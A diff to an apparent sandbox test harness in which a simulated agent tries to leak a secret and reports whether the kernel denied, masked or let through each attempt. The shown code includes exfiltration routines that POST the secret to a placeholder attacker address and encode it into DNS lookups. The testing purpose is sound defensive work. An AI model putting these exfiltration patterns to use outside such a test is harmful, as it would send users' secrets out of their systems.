@@ -11,6 +11,8 @@ DNS name.  Every step prints its own outcome:
     MASKED    the file opened but its content was not there (empty / a mask)
     LEAKED    the secret's bytes reached the agent or left the process
     FAILED    the action failed for a reason that is not the sandbox (said why)
+    NO ANSWER a DNS lookup got no address: the audit trail says whether landgate's
+              DNS view refused it or the name simply does not exist
 
 The agent never decides anything itself: it only reports what the kernel
 answered.  It carries on after every denial, like a real agent would.
@@ -152,6 +154,10 @@ def exfil_urllib(step: str, secret: bytes) -> None:
     url = f"http://{EXFIL_IP}/upload"
     try:
         urllib.request.urlopen(url, data=secret, timeout=3)
+    except urllib.error.HTTPError as exc:
+        # An HTTP answer means the request, body included, reached a server.
+        report(step, "LEAKED", f"a server answered HTTP {exc.code}: the POST body left")
+        return
     except urllib.error.URLError as exc:
         reason = exc.reason
         if isinstance(reason, OSError) and reason.errno in (
@@ -172,11 +178,8 @@ def exfil_urllib(step: str, secret: bytes) -> None:
             report(step, "FAILED", f"{reason}")
         return
     except OSError as exc:
-        report(
-            step,
-            "DENIED" if exc.errno in (errno.ECONNREFUSED, errno.EACCES, errno.EPERM) else "FAILED",
-            _errname(exc),
-        )
+        denied = exc.errno in (errno.ECONNREFUSED, errno.EACCES, errno.EPERM)
+        report(step, "DENIED" if denied else "FAILED", _errname(exc))
         return
     report(step, "LEAKED", f"POSTed the secret to {url}")
 
@@ -188,7 +191,9 @@ def exfil_dns(step: str, secret: bytes) -> None:
     except socket.gaierror as exc:
         # Which resolver answered is in the audit trail: the sandbox's DNS view records the
         # query and its decision; without one the query went to the host's resolver.
-        report(step, "DENIED", f"lookup of {name[:24]}... failed ({_errname(exc)})")
+        # The agent cannot tell a sandbox's refusal from a name that does not exist:
+        # the audit trail says which it was.
+        report(step, "NO ANSWER", f"{name[:24]}... did not resolve ({_errname(exc)})")
         return
     except OSError as exc:
         report(step, "DENIED", _errname(exc))
